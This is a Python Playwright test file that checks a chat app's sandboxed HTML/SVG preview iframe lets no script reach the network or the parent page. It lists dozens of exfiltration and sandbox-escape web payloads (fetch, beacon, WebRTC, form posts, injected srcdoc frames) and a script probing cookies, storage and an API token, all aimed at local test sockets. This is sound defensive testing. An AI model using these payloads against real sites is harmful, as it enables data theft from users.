"""Previews of HTML and SVG: they run, and no script there reaches anything outside its frame."""

import json
import re
import selectors
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import Error, Frame, Page, expect

from gptoss_local.talk.history import History
from tests.conftest import RunningServer
from tests.web.chatting import ask, box, press
from tests.web.chatting import until as until_page
from tests.web.conftest import Watch
from tests.web.drivers import Driver, firefox
from tests.web.test_browsers import BROWSERS, let_in, until
from tests.web.test_safety import serve_folder

PREVIEW = ".preview-pane iframe"
N_TRIES, TRY_S = 6, 5
CALM_S = 2  # in which an attack would have reached its server
ATTACKS = {
    "fetch": "<script>fetch('URL', { mode: 'no-cors' })</script>",
    "xhr": "<script>x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('URL', 'secret')</script>",
    "websocket": "<script>new WebSocket('URL'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('URL')</script>",
    "image": "<img src='URL'>",
    "image by script": "<script>new Image().src = 'URL'</script>",
    "set": "<img srcset='URL 1x'>",
    "background": "<body style='background: url(URL)'>text",
    "import": "<style>@import 'URL';</style>",
    "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x",
    "style": "<link rel='stylesheet' href='URL'>",
    "icon": "<link rel='preload' as='image' href='URL'>",
    "script": "<script src='URL'></script>",
    "module": "<script>import('URL')</script>",
    "frame": "<iframe src='URL'></iframe>",
    "frame in a frame": "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
    "empty frame": "<iframe></iframe><script>new (frames[0].Image)().src = 'URL';"
    "frames[0].fetch('URL', { mode: 'no-cors' })</script>",
    "object": "<object data='URL'></object><embed src='URL'>",
    "video": "<video src='URL' autoplay muted></video>",
    "svg": "<svg><image href='URL'></image><use href='URL#x'></use></svg>",
    "filter": "<svg width='9' height='9'><filter id='f'><feImage href='URL'/></filter>"
    "<rect width='9' height='9' filter='url(#f)'/></svg>",
    "form": "<form action='URL'><input name='q'></form><script>document.forms[0].submit()</script>",
    "post": "<form action='URL' method='post'></form><script>document.forms[0].submit()</script>",
    "refresh": "<meta http-equiv='refresh' content='0;url=URL'>",
    "go": "<script>location = 'URL'</script>",
    "go, by a link": "<a href='URL'>x</a><script>document.links[0].click()</script>",
    "go, all of it": "<script>top.location = 'URL'</script>",
    "go, by a target": "<a href='URL' target='_top'>x</a>"
    "<script>document.links[0].click()</script>",
    "base": "<base href='URL'><img src='x.png'>",
    "window": "<script>open('URL')</script>",
    "prefetch": "<link rel='prefetch' href='URL'>",
    "speculation": '<script type="speculationrules">'
    '{"prefetch": [{"source": "list", "urls": ["URL"], "eagerness": "immediate"}]}</script>',
    "connect": "<link rel='preconnect' href='URL'>",
    "dns": "<meta http-equiv='x-dns-prefetch-control' content='on'>"
    "<link rel='dns-prefetch' href='URL'><a href='URL'>x</a><img src='URL'>",
    "prerender": "<link rel='prerender' href='URL'><link rel='modulepreload' href='URL'>",
    "map": '<script type="importmap">{"imports": {"x": "URL"}}</script>'
    "<script type='module'>import 'x'</script>",
    "ping": "<a href='#' ping='URL'>x</a><script>document.links[0].click()</script>",
    "popup": "<form action='URL' target='_blank'><button>x</button></form>"
    "<script>document.forms[0].requestSubmit()</script>",
    "worker": "<script>new Worker(window.URL.createObjectURL(new Blob([`fetch('URL')`])))</script>",
    "shared worker": "<script>new SharedWorker('data:text/javascript,fetch(\"URL\")')</script>",
    "service worker": "<script>navigator.serviceWorker.register('URL')</script>",
    "transport": "<script>new WebTransport('URL'.replace('http', 'https'))</script>",
    "late fetch": "<script>fetchLater('URL', { activateAfter: 0 })</script>",
    "cursor": "<style>body { cursor: url(URL), auto; background: image-set('URL' 1x) }</style>",
    "audio": "<audio src='URL' autoplay></audio><track src='URL'><input type='image' src='URL'>",
    "svg style": "<svg><style>@import url(URL);</style><a href='URL'/></svg>",
    "webrtc": "<script>PEER</script>",
    "webrtc of a frame": "<iframe srcdoc='<script>PEER</script>'></iframe>",
    "webrtc by an address": '<iframe src="javascript:PEER"></iframe>',
}
PEER = (
    "c = new RTCPeerConnection({ iceServers: [{ urls: `STUN` }] }); c.createDataChannel(`x`);"
    "c.createOffer().then((o) => c.setLocalDescription(o))"
)
PRELUDE = """<body><script>
const html = "http://www.w3.org/1999/xhtml", svg = "http://www.w3.org/2000/svg";
const doc = "src" + "doc";
const code = 'PEER', child = `<body onload="${code}">`, type = { type: "text/html" };
const text = "<" + `iframe ${doc}='${child}'></iframe>`, hint = { rel: "preconnect", href: "URL" };
const xml = text.replace("<body", "&lt;body").replace(" ", ` xmlns="${html}" `);
const entity = xml.replace(/[<&"f]/g, (letter) => `&#${letter.charCodeAt()};`);
const sheet = `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">
  <x:template match="/"><x:element name="{concat('i', 'frame')}" namespace="${html}">
  <x:attribute name="${doc}">${child.replace("<", "&lt;")}</x:attribute></x:element></x:template>
  </x:stylesheet>`;
const make = (name) => document.createElement(name), body = document.body;
const show = (...nodes) => document.body.append(...nodes);
const parse = (text, type) => new DOMParser().parseFromString(text, type);
const blob = () => URL.createObjectURL(new Blob([child], type));
function ofClass(its, name) {
  customElements.define("x-x", class extends its {}, { extends: name });
  return new (customElements.get("x-x"))();
}
let f = make("iframe"), a = document.createAttribute(doc);
a.value = child;
"""
WAYS = """
f[doc] = child; show(f)
f.setAttribute(doc, child); show(f)
f.setAttributeNS(null, doc, child); show(f)
f.setAttributeNode(a); show(f)
f.attributes.setNamedItem(a); show(f)
f = document.createElementNS(html, 'x:iframe'); f[doc] = child; show(f)
f = document.createElement('IFRAME', { is: 'x-x' }); f[doc] = child; show(f)
f = new Document().createElementNS(html, 'iframe'); f[doc] = child; show(document.importNode(f))
f = document.implementation.createHTMLDocument().createElement('iframe'); f[doc] = child; show(f)
f = document.implementation.createDocument(html, 'iframe').documentElement; f[doc] = child; show(f)
f = ofClass(HTMLIFrameElement, 'iframe'); f[doc] = child; show(f)
body.innerHTML = text
RegExp.prototype.exec = () => null; String.prototype.replace = String; body.innerHTML = text
body.appendChild(make('p')).outerHTML = text
body.insertAdjacentHTML('beforeend', text)
body.setHTMLUnsafe(text)
body.setHTMLUnsafe('<p><template shadowrootmode=closed>' + text + '</template></p>')
body.attachShadow({ mode: 'closed' }).innerHTML = text
document.write(text)
document.write(text.slice(0, 5)); document.write(text.slice(5))
document.designMode = 'on'; getSelection().collapse(body, 0); document.execCommand('insertHTML', false, text)
f = make('template'); f.innerHTML = text; show(f.content.cloneNode(true))
f = make('div'); f.append(make('iframe')); f.firstChild[doc] = child; show(f.cloneNode(true))
show(document.createRange().createContextualFragment(text))
show(document.adoptNode(Document.parseHTMLUnsafe(text).body.firstChild))
show(parse(text, 'text/html').body.firstChild)
show(parse(xml, 'application/xhtml+xml').documentElement)
show(parse(xml.replace('<', '<x:').replace('xmlns', 'xmlns:x').replace('</', '</x:'), 'text/xml').documentElement)
show(parse(`<!DOCTYPE p [<!ENTITY e "${entity}">]><p xmlns="${html}">&e;</p>`, 'text/xml').documentElement)
a = new XSLTProcessor(); a.importStylesheet(parse(sheet, 'text/xml')); show(a.transformToFragment(parse('<a/>', 'text/xml'), document))
f = document.createElementNS(svg, 'svg'); show(f); f.innerHTML = '<foreignObject>' + text + '</foreignObject>'
f.src = blob(); show(f)
f.src = 'data:text/html,' + encodeURIComponent(child); show(f)
f.src = 'javascript:' + code; show(f)
f = make('frame'); f.src = 'javascript:' + code; show(f)
f = make('object'); f.data = blob(); show(f)
f = make('embed'); f.src = blob(); show(f)
show(f); f.contentWindow.eval(code)
c = new frames[show(f) || 0].RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); c.createDataChannel('x'); c.setLocalDescription()
document.head.append(Object.assign(make('link'), hint))
document.head.append(Object.assign(ofClass(HTMLLinkElement, 'link'), hint))
body.setHTML('<' + 'link rel=preconnect href=URL>', { sanitizer: { elements: [{ name: 'link', attributes: ['rel', 'href'] }] } })
body.innerHTML = '<' + 'link rel=preconnect href=URL>'
""".strip().split("\n")  # noqa: E501
"""Scripts that make a frame with a document that connects, or a hint to connect, each in its way.
"""
HINTS = {"connect", *(way for way in WAYS if "hint" in way or "preconnect" in way)}
ATTACKS |= {way: f"{PRELUDE}{way}</script>" for way in WAYS}


class Listener:
    """A TCP and a UDP socket for each attack: a connection counts, even if nothing is sent."""

    def __init__(self) -> None:
        self.seen: set[str] = set()
        self._ports: dict[str, tuple[int, int]] = {}
        self._is_closed = False
        self._selector = selectors.DefaultSelector()
        for name in ATTACKS:
            tcp = socket.create_server(("127.0.0.1", 0))
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.bind(("127.0.0.1", 0))
            self._ports[name] = (tcp.getsockname()[1], udp.getsockname()[1])
            for each in (tcp, udp):
                self._selector.register(each, selectors.EVENT_READ, name)
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def aim(self, name: str) -> str:
        """Return the code of an attack on its sockets."""
        tcp, udp = self._ports[name]
        code = ATTACKS[name].replace("PEER", PEER).replace("STUN", f"stun:127.0.0.1:{udp}")
        return re.sub(r"\bURL\b(?!\.)", f"http://localhost:{tcp}/", code)

    def _listen(self) -> None:
        while not self._is_closed:
            for key, _ in self._selector.select(0.1):
                each = key.fileobj
                _ = each.accept()[0].close() if each.type == socket.SOCK_STREAM else each.recv(2048)
                self.seen.add(key.data)

    def close(self) -> None:
        self._is_closed = True
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()
        self._selector.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


def stored(server: RunningServer, *codes: str, language: str = "html") -> str:
    """Return the address of a new chat with blocks of code."""
    history = History(server.home / "chats.sqlite3")
    chat = history.new_chat("nano", "low", "A preview")
    question = history.add(chat, None, "user", "Draw it")
    text = "\n\n".join(f"```{language}\n{code}\n```" for code in codes)
    history.add(chat, question.id, "assistant", f"{text}\n\nThere.")
    history.close()
    return f"{server.url}/#/chat/{chat}"


def shown(page: Page, server: RunningServer, code: str, language: str = "html") -> Frame:
    """Open the preview of a block of code; return its frame."""
    page.goto(stored(server, code, language=language))
    press(page, "Preview")
    expect(page.locator(PREVIEW)).to_have_count(1)
    return page.frames[-1]


@pytest.fixture(
    params=[
        "chromium",
        pytest.param("firefox", marks=[*BROWSERS[0].marks, pytest.mark.nightly]),
    ]
)
def tab(
    request: pytest.FixtureRequest, scripted: RunningServer, watch: Watch, tmp_path: Path
) -> Iterator[Driver | Page]:
    if request.param == "chromium":
        watch.expected = ("",)  # the browser reports each refusal
        yield request.getfixturevalue("page")
        watch.requests.clear()  # also lists those that the browser refused
    else:
        with firefox(tmp_path) as driver:
            let_in(driver, scripted)
            yield driver


def test_no_attack_reaches_anything(
    tab: Driver | Page, scripted: RunningServer, watch: Watch, listener: Listener
) -> None:
    """Each in a frame as that of the pane, all at the same time."""
    says = "<script>parent.postMessage('runs', '*')</script>"
    tab.goto(stored(scripted, "<p>"))
    until(tab, "document.querySelectorAll('button.preview').length === 1")
    tab.evaluate("(window.n = 0, addEventListener('message', () => n++), 0)")
    codes = json.dumps([says + listener.aim(name) for name in ATTACKS])
    tab.evaluate(
        "void import('/web/preview.js').then(({ makeFrame }) => document.body.append("
        f"...{codes}.map((code) => makeFrame({{ html: '<!doctype html>' + code }}))))"
    )
    until(tab, f"n === {len(ATTACKS)}")
    time.sleep(CALM_S)
    assert listener.seen == set()
    assert tab.evaluate("location.href").startswith(scripted.url)
    assert not any(problem.startswith("popup") for problem in watch.problems)


def test_the_pane_lets_nothing_out(
    page: Page, scripted: RunningServer, watch: Watch, listener: Listener
) -> None:
    watch.expected = ("",)
    code = listener.aim("f[doc] = child; show(f)")
    frame = shown(page, scripted, f"{code}<p>It ran</p>")
    expect(frame.locator("p")).to_have_text("It ran")
    time.sleep(CALM_S)
    assert listener.seen == set()


@pytest.mark.nightly
def test_each_attack_succeeds_in_a_page_of_its_own(
    tab: Driver | Page, listener: Listener, tmp_path: Path
) -> None:
    unable = {"speculation", "service worker", "shared worker", "transport"}  # in a frame
    if isinstance(tab, Page):
        unable |= HINTS  # Playwright starts Chromium without them
    else:
        unable |= {"late fetch"}  # Firefox 153 has no fetchLater
    failed = []
    (tmp_path / "index.html").write_text("<!doctype html><body>")
    with serve_folder(tmp_path) as (url, _):
        for k, name in enumerate(name for name in ATTACKS if name not in unable):
            (tmp_path / f"{k}.html").write_text(f"<!doctype html>{listener.aim(name)}")
            for _ in range(N_TRIES):  # the last attack may have the tab go elsewhere
                with suppress(Error, AssertionError):
                    tab.goto(f"{url}?{k}")
                    tab.evaluate(f"void (document.body.innerHTML = '<iframe src={k}.html>')")
                until_s = time.monotonic() + TRY_S
                while name not in listener.seen and time.monotonic() < until_s:
                    time.sleep(0.05)
                if name in listener.seen:
                    break
            else:
                failed.append(name)
    assert failed == []


SECRETS = """<p id="found"></p><script>
const found = [];
for (const look of [
  () => parent.document.title, () => top.location.href, () => localStorage.length,
  () => sessionStorage.length, () => document.cookie, () => indexedDB.open("x").onerror,
  () => parent.frames[0].document.nodeName && parent.frames["x"].name, () => frameElement.id,
  () => caches.keys().then, () => open("about:blank").name, () => eval("1"),
]) try { found.push(String(look())); } catch (error) { found.push("refused"); }
document.getElementById("found").textContent = found.join();
parent.postMessage({ type: "key", role: "user" }, "*");
alert("hello");
</script>"""


def test_what_runs_has_nothing_of_the_page(
    page: Page, scripted: RunningServer, watch: Watch
) -> None:
    watch.expected = ("",)
    frame = shown(page, scripted, SECRETS)
    words = frame.locator("#found").inner_text().split(",")
    assert set(words) <= {"refused", "null", "undefined"}
    assert page.locator(PREVIEW).get_attribute("sandbox") == "allow-scripts"
    assert "alert" not in watch.problems
    token = page.evaluate("localStorage.getItem('gptoss-token')")
    headers = f"{{ headers: {{ 'x-gptoss-token': '{token}' }} }}"
    api = f"fetch('{scripted.url}/api/gptoss/chats', {headers})"
    assert frame.evaluate(f"{api}.then(() => 'read', () => 'no')") == "no"


def test_scripts_that_people_write_run(page: Page, scripted: RunningServer, watch: Watch) -> None:
    watch.expected = ("localStorage", "Trusted")
    code = """<body onload="say('load')"><p id="said"></p><div id="list"></div><script>
const apply = 1, say = (word) => said.append(word, " "), made = document.createElement("iframe");
try { localStorage.x = 1 } catch { say("refused") }
document.addEventListener("DOMContentLoaded", () => say("ready"));
made.style.width = "9px"; made.src = "https://a.example"; document.body.append(made);
list.innerHTML = `<button onclick="say('pressed')">I <3 it</button>`;
document.createElement("canvas").getContext("2d").fillText("x", 1, 1);
const link = 1, images = [new Image()];
for (let i = 0; i<link; i++) images[i].onload = () => (say("drawn"), list.firstChild.click());
setTimeout(() => images[0].src = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>");
</script>"""
    frame = shown(page, scripted, code)
    expect(frame.locator("#said")).to_have_text("refused ready load drawn pressed")
    expect(frame.locator("button")).to_have_text("I <3 it")
    expect(page.locator(".code pre")).to_contain_text("<p id=")
    page.keyboard.press("Tab")
    press(page, "Close the preview")
    expect(page.locator(PREVIEW)).to_have_count(0)
    expect(page.get_by_role("button", name="Preview", exact=True)).to_be_focused()


def test_the_pane(page: Page, scripted: RunningServer, tmp_path: Path) -> None:
    frame = shown(page, scripted, "<p id=n></p><script>n.textContent = Math.random()</script>")
    pane = page.get_by_role("complementary", name="Preview")
    expect(pane).to_contain_text("No network, no storage")
    before = frame.locator("#n").inner_text()
    press(page, "Reload the preview")
    again = page.locator(PREVIEW).last.content_frame
    expect(again.locator("#n")).not_to_have_text(before)
    expect(page.locator(PREVIEW)).to_have_count(1)
    with page.expect_download() as download:
        press(page, "Download the code")
    assert download.value.suggested_filename == "preview.html"
    download.value.save_as(tmp_path / "it.html")
    assert (tmp_path / "it.html").read_text().startswith("<p id=n>")
    box = pane.bounding_box()
    assert box is not None
    assert (box["x"], box["width"]) == (600, 600)  # the right half
    page.get_by_role("separator", name="Width of the preview").focus()
    page.keyboard.press("ArrowRight")
    until_page(page, "document.querySelector('.preview-pane').offsetWidth === 540")
    press(page, "Full screen")
    until_page(page, "document.fullscreenElement?.matches('.preview-pane')")
    page.evaluate("document.exitFullscreen()")
    page.get_by_role("button", name="Close the preview").focus()
    page.keyboard.press("Escape")
    expect(pane).to_have_count(0)
    press(page, "Preview")
    page.set_viewport_size({"width": 390, "height": 844})
    until_page(page, "document.querySelector('.preview-pane').offsetWidth === 390")
    page.set_viewport_size({"width": 1200, "height": 800})
    press(page, "New chat")
    expect(pane).to_have_count(0)


FLOW = "graph TD\n  A[Start] --> B{Is it?}\n  B -->|Yes| C[End]"


def test_a_diagram_of_mermaid(page: Page, scripted: RunningServer, watch: Watch) -> None:
    watch.expected = ("Trusted", "TrustedTypes")
    page.goto(stored(scripted, FLOW, "graph nonsense ((", language="mermaid"))
    expect(page.get_by_role("button", name="Preview", exact=True)).to_have_count(2)
    assert not [url for url in watch.requests if "mermaid" in url]
    press(page, "Preview")
    drawing = page.frame_locator(PREVIEW)
    expect(drawing.locator("svg")).to_contain_text("Start")
    page.get_by_role("button", name="Preview", exact=True).last.click()
    expect(drawing.locator("pre")).to_contain_text("error")


FITS = "({ scrollWidth, clientWidth }) => scrollWidth <= clientWidth"


def test_it_follows_code_that_is_written(page: Page) -> None:
    box(page).press_sequentially("Draw a page slowly")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Preview", exact=True).click()
    drawing = page.frame_locator(PREVIEW)
    expect(drawing.locator("li").first).to_have_text("item 0")
    expect(page.locator(".turn.assistant")).to_have_attribute("aria-busy", "true")
    expect(drawing.locator("li")).to_have_count(60)
    expect(page.locator(".context")).to_be_visible()
    for width in (1024, 1440, 1200):  # there is half of it for the chat
        page.set_viewport_size({"width": width, "height": 800})
        until_page(page, "document.querySelector('.composer .model .name').offsetWidth > 20")
        until_page(page, f"({FITS})(document.querySelector('.composer'))")


def test_what_has_a_preview(page: Page, scripted: RunningServer) -> None:
    code = (
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
        '<rect width="10" height="10" fill="red"/></svg>'
    )
    box = shown(page, scripted, code, language="xml").locator("rect").bounding_box()
    assert box is not None
    assert box["width"] > 100
    page.goto(stored(scripted, "<a/>\n```\n\n```python\nprint('<svg>')", language="xml"))
    expect(page.locator("button.copy")).to_have_count(2)
    expect(page.locator("button.preview")).to_have_count(0)
    page.goto(stored(scripted, "<p>" + "x" * 500_000))
    expect(page.locator("button.copy")).to_have_count(1)
    expect(page.locator("button.preview")).to_have_count(0)


def test_a_loop_without_an_end_is_closed(page: Page, scripted: RunningServer) -> None:
    """Chromium runs such a frame in a process of its own."""
    shown(page, scripted, "<script>while (true);</script>")
    press(page, "Close the preview")
    expect(page.locator(PREVIEW)).to_have_count(0)
    ask(page, "What is the capital of France?")
